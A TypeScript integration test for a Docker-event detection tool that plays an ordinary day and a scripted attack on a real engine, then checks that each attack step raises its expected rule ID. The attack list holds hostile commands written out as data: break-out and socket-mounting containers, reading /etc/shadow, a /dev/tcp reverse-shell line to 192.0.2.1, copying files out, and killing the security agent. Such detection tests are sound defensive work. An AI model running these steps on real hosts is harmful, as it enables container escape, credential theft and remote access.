// What the built-in rules say about a day like any other, and about an attack, on a real engine.
import assert from 'node:assert/strict'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { after, afterEach, beforeEach, describe, it } from 'node:test'
import { alertsOf, type RaisedAlert } from '../support/alerts-of.ts'
import { CollectedSource } from '../support/collected-source.ts'
import { dockerSource } from '../support/docker-source.ts'
import { engineMissing, image, startEngine, type Engine } from '../support/dockerd.ts'
import { eventually } from '../support/manager-process.ts'

const missing = engineMissing()
if (missing !== undefined) console.error(`SKIPPED: days of a Docker engine: ${missing}`)
const home = mkdtempSync(path.join(tmpdir(), 'quaywatch-days-'))

const quiet = ['--network', 'none']

type Day = (engine: Engine, source: CollectedSource) => Promise<void>

async function during(engine: Engine, act: Day): Promise<RaisedAlert[]> {
  const began = Date.now()
  const listener = dockerSource([engine.host], home)
  const source = new CollectedSource(listener)
  try {
    await source.until('connected', (text) => text.includes('"Connected to Docker service"'))
    // What was there before counts as known.
    await eventually(
      'the first lists',
      () => Number(listener.inventory()[0]?.comparedAtMs) >= began || undefined,
    )
    await act(engine, source)
    await engine.docker('volume', 'create', 'the-end')
    await source.until('the end', (text) => text.includes('"Action": "create", "Actor": {"ID": "the-end"'))
    await engine.docker('volume', 'rm', 'the-end')
  } finally {
    await source.stop()
  }
  return alertsOf(home, source.events)
}

const isProbe = (text: string): boolean => text.includes('"healthcheck": true')

/** A compose stack goes up and down, thirty containers are probed all the time, a build host works. */
async function benignDay({ docker }: Engine, source: CollectedSource): Promise<void> {
  const project = ['--label', 'com.docker.compose.project=shop']
  for (const name of ['db', 'cache', 'web'])
    await docker(
      'run',
      '-d',
      '--name',
      `shop-${name}-1`,
      ...quiet,
      ...project,
      '-v',
      `shop_${name}:/data`,
      image,
    )
  const probed = Array.from({ length: 30 }, (_, at) => `probed-${at}`)
  // A probe takes a tenth of a second of a processor: at one per second and container, nothing else would come to its turn.
  const probe = ['--health-cmd', 'test -f /etc/passwd', '--health-interval', '5s']
  for (const name of probed) await docker('run', '-d', '--name', name, ...quiet, ...probe, image)
  for (let build = 0; build < 8; build += 1) {
    const command = build % 4 === 3 ? 'exit 1' : 'exit 0'
    await docker('run', '--name', `build-${build}`, ...quiet, image, 'sh', '-c', command)
    await docker('commit', `build-${build}`, `ci/app:${build}`)
    await docker('rm', `build-${build}`)
    await docker('run', '--rm', ...quiet, `ci/app:${build}`, 'true')
    await docker('rmi', `ci/app:${build}`)
  }
  await docker('exec', 'shop-db-1', 'ls', '/')
  await eventually('probes', () => source.texts().filter(isProbe).length >= 100 || undefined)
  for (const name of ['web', 'cache', 'db']) {
    await docker('stop', '-t', '1', `shop-${name}-1`)
    await docker('rm', `shop-${name}-1`)
  }
}

interface Step {
  readonly name: string
  readonly run: readonly string[]
  readonly rule: number
}

const create = (name: string, ...options: readonly string[]): string[] => [
  'create',
  '--name',
  name,
  ...options,
  image,
]
const exec = (...command: readonly string[]): string[] => ['exec', 'victim', ...command]

/** The rule that must tell each step of an attack. Privileged containers can be created here, not started. */
const attack: readonly Step[] = [
  { name: 'a privileged container', run: create('a1', '--privileged'), rule: 88101 },
  {
    name: 'a break-out container',
    run: create('a2', '--privileged', '--pid', 'host', '-v', '/:/host'),
    rule: 88100,
  },
  { name: 'the engine socket', run: create('a3', '-v', '/var/run/docker.sock:/s'), rule: 88102 },
  { name: 'the host root', run: create('a4', '-v', '/etc/../root:/r'), rule: 88103 },
  { name: 'the host processes', run: create('a5', '--pid', 'host'), rule: 88105 },
  { name: 'a capability', run: create('a6', '--cap-add', 'SYS_PTRACE'), rule: 88108 },
  { name: 'no seccomp', run: create('a7', '--security-opt', 'seccomp=unconfined'), rule: 88110 },
  { name: 'a device', run: create('a8', '--device', '/dev/kmsg'), rule: 88111 },
  { name: 'a shell', run: ['exec', '-i', 'victim', '/bin/sh'], rule: 87908 },
  { name: 'a privileged command', run: ['exec', '--privileged', 'victim', 'id'], rule: 88121 },
  { name: 'credentials', run: exec('cat', '/etc/shadow'), rule: 88124 },
  { name: 'a reverse shell', run: exec('sh', '-c', 'echo 0>/dev/tcp/192.0.2.1/1'), rule: 88123 },
  { name: 'files copied out after a shell', run: ['cp', 'victim:/etc/passwd', '-'], rule: 88200 },
  {
    name: 'the file system exported',
    run: ['export', '-o', path.join(home, 'stolen.tar'), 'victim'],
    rule: 88147,
  },
  { name: 'files copied in', run: ['cp', '/etc/hostname', 'victim:/tmp/tool'], rule: 88146 },
  { name: 'another container spied on', run: create('b1', '--pid', 'container:victim'), rule: 88107 },
  { name: 'a trusted name', run: ['tag', image, 'nginx:1.27'], rule: 88143 },
  {
    name: 'an image of a registry never seen',
    run: ['run', '-d', '--name', 'b2', ...quiet, 'registry.example:5000/tools/fetch:2'],
    rule: 88140,
  },
  {
    name: 'a new image that comes back by itself',
    run: ['run', '-d', '--name', 'b3', ...quiet, '--restart', 'always', 'shop/back:door'],
    rule: 88141,
  },
  { name: 'a miner', run: ['create', '--name', 'a9', 'xmrig/xmrig:6'], rule: 88112 },
  {
    name: 'mass deletion',
    run: ['rm', '-f', 'a1', 'a2', 'a3', 'a4', 'a5', 'a6', 'a7', 'a8', 'a9'],
    rule: 88040,
  },
  { name: 'the security agent', run: ['kill', 'falco'], rule: 88130 },
]

describe('days of a Docker engine', { skip: missing !== undefined, timeout: 1_800_000 }, () => {
  let engine: Engine
  // One for each day: an engine that is still busy with removing thirty probed containers may not answer for minutes.
  beforeEach(async () => {
    engine = await startEngine()
  })
  afterEach(() => engine.remove())
  after(() => rmSync(home, { recursive: true, force: true }))

  it('an ordinary day raises fewer than ten alerts of level 7 and above', async () => {
    const alerts = await during(engine, benignDay)
    const loud = alerts.filter(({ level }) => level >= 7)
    assert.ok(alerts.length > 100, `${alerts.length} alerts`)
    assert.ok(loud.length < 10, loud.map(({ id, description }) => `${id} ${description}`).join('\n'))
  })

  it('every step of an attack is told by its rule', async () => {
    const alerts = await during(engine, async ({ docker }) => {
      await docker('tag', image, 'xmrig/xmrig:6')
      await docker('tag', image, 'registry.example:5000/tools/fetch:2')
      for (const name of ['victim', 'falco']) await docker('run', '-d', '--name', name, ...quiet, image)
      await docker('commit', 'victim', 'shop/back:door')
      for (const { run } of attack) await docker(...run)
    })
    const found = new Set(alerts.map(({ id }) => id))
    assert.deepEqual(
      attack.filter(({ rule }) => !found.has(rule)).map(({ name, rule }) => `${name} (${rule})`),
      [],
    )
  })
})
